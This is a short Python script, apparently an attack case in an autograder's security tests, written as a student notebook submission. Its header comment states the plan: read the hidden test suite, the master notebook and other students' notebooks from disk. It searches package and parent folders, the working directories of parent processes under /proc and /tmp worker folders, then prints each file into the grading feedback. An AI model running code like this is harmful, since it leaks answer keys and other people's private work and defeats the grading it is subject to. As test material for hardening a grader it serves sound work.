# @right
# @include _procs.py
# Attack: find the hidden suite, the master notebook and other students'
# notebooks on disk (next to the autograder package, above the working folder,
# in the grading processes' working folders, in workers' scratch courses) and
# print them with `cat` into the notebook, so they reach the feedback.
import glob
import subprocess

import autograder

_found = []


def _look(base):
    for pattern in (
        "autograder/suites/test_*.py",
        "suites/test_*.py",
        "source/*/*.ipynb",
        "submitted/*/*/*.ipynb",
    ):
        _found.extend(glob.glob(_os.path.join(base, pattern)))


_look(_os.path.dirname(autograder.__file__))
_look(_os.path.dirname(_os.path.dirname(autograder.__file__)))
_d = _os.getcwd()
for _ in range(6):
    _look(_d)
    _d = _os.path.dirname(_d)
for _pid in ancestors():
    try:
        _look(_os.readlink(f"/proc/{_pid}/cwd"))
    except OSError:
        pass
_found.extend(glob.glob("/tmp/autograder-worker-*/*/source/*/*.ipynb"))
_found.extend(glob.glob("/tmp/*/autograder-worker-*/*/source/*/*.ipynb"))
_found = sorted(set(_found), key=lambda p: ("suites" not in p, "source" not in p, p))
_budget = 600_000
for _path in _found:
    if _budget <= 0:
        break
    _text = subprocess.run(["cat", _path], capture_output=True, text=True).stdout[:60000]
    print("=====", _path)
    print(_text)
    _budget -= len(_text)
print("files found:", len(_found))
